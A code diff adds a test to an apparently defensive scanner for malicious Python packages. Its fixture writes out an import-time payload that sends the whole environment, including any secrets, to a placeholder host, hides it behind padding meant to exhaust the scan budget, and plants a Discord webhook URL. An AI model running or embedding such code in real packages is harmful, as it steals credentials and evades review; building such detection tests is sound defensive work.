@@ -418,7 +418,6 @@ def test_autostart_write() -> None:
     assert "autostart" in {h.kind for h in analyse(code).hits}
 
 
-
 @pytest.mark.parametrize(
     ("command", "persistent"),
     [
@@ -862,6 +861,30 @@ def test_budget_leaves_a_weak_note_but_reads_setup_py(tmp_path: Path) -> None:
     assert result.level == "block"
     note = [f for f in result.findings if f.rule == "scan-incomplete"]
     assert note and note[0].weak
+
+
+def test_a_padded_init_leaves_no_module_it_imports_unread(tmp_path: Path) -> None:
+    # an __init__.py that costs the whole budget, then imports and calls a module
+    # of its own whose function sends the environment: that module runs at import
+    payload = (
+        "import os, json, urllib.request\n"
+        "def collect():\n"
+        "    body = json.dumps(dict(os.environ)).encode()\n"
+        "    urllib.request.urlopen('http://127.0.0.1:9/c', data=body)\n"
+    )
+    init = "from ._impl import collect\n" + "".join(f"_C{i} = {i}\n" for i in range(40_000))
+    files: dict[str, str | bytes] = {
+        "demo/__init__.py": init + "collect()\n",
+        "demo/_impl.py": payload,
+    }
+    result = scan(wheel(tmp_path, files), budget=0.01)
+    assert result.level == "block"
+    assert any(s.file == "demo/_impl.py" for s in result.signals)
+    # and a module imported later still has its text read when the budget is spent
+    files["demo/_impl.py"] = "from ._late import go\n"
+    files["demo/_late.py"] = "x = 'https://discord.com/api/webhooks/1/abcdefghijklmnop'\n"
+    late = scan(wheel(tmp_path, files, name="late-1.0"), budget=0.01)
+    assert any(s.file == "demo/_late.py" for s in late.signals)
 
 
 # --- the rule ---------------------------------------------------------------------------
